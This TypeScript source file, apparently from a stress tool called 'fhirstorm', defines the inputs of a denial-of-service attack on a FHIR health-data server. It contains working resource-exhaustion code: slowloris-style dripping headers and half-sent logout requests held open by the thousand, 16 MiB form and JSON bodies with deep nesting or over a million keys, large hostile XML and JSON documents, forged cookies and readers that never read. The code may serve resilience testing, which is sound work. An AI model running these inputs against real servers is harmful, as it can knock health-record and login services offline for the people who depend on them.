// The inputs of the attack, each as somebody would send it again and again until the time is over.

import { randomBytes } from 'node:crypto'
import type { Aim, Session } from './aim.ts'
import { ask, head, openLine, type Tally } from './socket.ts'

export interface Input {
  name: string
  run(attack: Attack): Promise<unknown>
}

export interface Attack {
  aim: Aim
  tally: Tally
  isOver(): boolean
}

const MIB = 1024 * 1024
const pause = (milliseconds: number) => new Promise(done => setTimeout(done, milliseconds))

/** So many at a time, each again when it has ended. */
async function again({ isOver }: Attack, atATime: number, once: (i: number) => Promise<unknown>) {
  const lanes = Array.from({ length: atATime }, async (_, lane) => {
    for (let i = lane; !isOver(); i += atATime) {
      await once(i)
      // What is refused at once is not asked again in the same moment.
      await pause(20)
    }
  })
  await Promise.all(lanes)
}

function get(name: string, atATime: number, choose: (aim: Aim, i: number) => [string, Session?]) {
  return {
    name,
    run: (attack: Attack) =>
      again(attack, atATime, i => {
        const [path, session] = choose(attack.aim, i)
        const headers: Record<string, string> = session ? { cookie: session.cookie } : {}
        return ask(attack.aim, attack.tally, [head(attack.aim, `GET ${path}`, headers)])
      }),
  }
}

function post(name: string, atATime: number, path: string, type: string, body: Buffer): Input {
  return {
    name,
    run: attack =>
      again(attack, atATime, () => {
        const { target } = attack.aim
        const headers = {
          ...{ cookie: target.cookie, 'content-type': type },
          'content-length': String(body.length),
        }
        const line = `POST ${target.path}${path}`
        return ask(attack.aim, attack.tally, [head(attack.aim, line, headers), body])
      }),
  }
}

function document(name: string, atATime: number, ...documents: string[]): Input {
  return get(name, atATime, ({ hostile }, i) => [
    `${hostile.path}/Basic/${documents[i % documents.length]}`,
    hostile,
  ])
}

/** Holds so many connections open, each with the same beginning, and drips on them. */
function hold(
  name: string,
  count: number,
  begin: (aim: Aim, i: number) => string | Buffer,
  drip = '',
) {
  return {
    name,
    run: (attack: Attack) =>
      again(attack, count, async i => {
        const { socket, over } = openLine(attack.aim, attack.tally)
        socket.write(begin(attack.aim, i))
        const timer = setInterval(() => {
          if (attack.isOver()) socket.destroy()
          else if (drip !== '') socket.write(drip)
        }, 1_000)
        await over
        clearInterval(timer)
        await pause(500)
      }),
  }
}

const repeat = (piece: string, bytes: number) =>
  Buffer.from(piece.repeat(Math.floor(bytes / piece.length)))
const batch = (entry: string) =>
  Buffer.from(
    `{"resourceType":"Bundle","type":"batch","entry":[${entry.repeat(Math.floor((15.9 * MIB) / entry.length))}{}]}`,
  )
const keys = () => {
  const members = Array.from({ length: 1_200_000 }, (_, i) => `"k${i}":0`).join()
  return Buffer.from(`{"resourceType":"Bundle","type":"batch","x":{${members}}}`)
}
const form = 'application/x-www-form-urlencoded'
const json = 'application/fhir+json'
const half = (path: string, type: string) => (aim: Aim) =>
  `${head(aim, `POST ${path}`, { 'content-type': type, 'content-length': '1000' })}a`
const upload = ({ target, ...aim }: Aim) => {
  const headers = { cookie: target.cookie, 'content-type': json, 'content-length': `${16 * MIB}` }
  const start = `{"resourceType":"Patient","text":"${'x'.repeat(15 * MIB)}`
  return head({ ...aim, target }, `POST ${target.path}/Patient`, headers) + start
}
const forged = () =>
  Array.from({ length: 150 }, () => {
    const id = randomBytes(16).toString('base64url')
    return `fhirstorm-${id}=${randomBytes(24).toString('base64url')}`
  }).join('; ')

/** All of them; those that need long texts make them when they are first asked for. */
export function buildInputs(): Input[] {
  return [
    post('search form of a&, 1 MiB', 4, '/Patient/_search', form, repeat('a&', MIB)),
    post('search form of a&, 16 MiB', 1, '/Patient/_search', form, repeat('a&', 16 * MIB)),
    post('batch of nested lists, 16 MiB', 2, '', json, batch('['.repeat(1_000))),
    post('batch of {}, 16 MiB', 2, '', json, batch('{},')),
    post('batch of keys, 16 MiB', 2, '', json, keys()),
    document('XML answers of addresses', 4, 'xml-65536', 'xml-131072', 'xml-262144', 'xml-4194304'),
    document('XML answers of tags', 2, 'tags-262144', 'tags-4194304'),
    document('JSON answers of addresses', 2, 'json-262144', 'json-4194304'),
    document('JSON answers of depth', 2, 'depth-262144', 'depth-4194304'),
    hold('dripping uploads', 16, upload, 'x'),
    hold('event streams', 256, aim =>
      head(aim, `GET ${aim.target.path}/$events`, {
        ...{ cookie: aim.target.cookie, accept: 'text/event-stream' },
      }),
    ),
    hold('half-sent logouts', 1_500, half('/logout', 'application/json')),
    hold('half-sent back-channel logouts', 1_500, half('/backchannel-logout', form)),
    hold('dripping headers', 500, ({ host }) => `GET / HTTP/1.1\r\nhost: ${host}\r\nx: `, 'x'),
    get('sessions of 56 KB', 4, ({ large }, i) => {
      const session = large[i % large.length]
      return [session?.path.replace(/\/fhir$/, '') ?? '/', session]
    }),
    get('cookies that are none', 8, () => ['/sessions', { cookie: forged(), path: '' }]),
    get('logins', 8, () => ['/login?ehr=target']),
    get('metadata of empty objects', 4, () => ['/login?ehr=metadata']),
    {
      name: 'readers that do not read',
      run: attack =>
        again(attack, 32, async () => {
          const { socket, over } = openLine(attack.aim, attack.tally)
          const { target } = attack.aim
          socket.write(head(attack.aim, `GET ${target.path}/$export`, { cookie: target.cookie }))
          socket.pause()
          await pause(2_000)
          socket.destroy()
          await over
        }),
    },
  ]
}
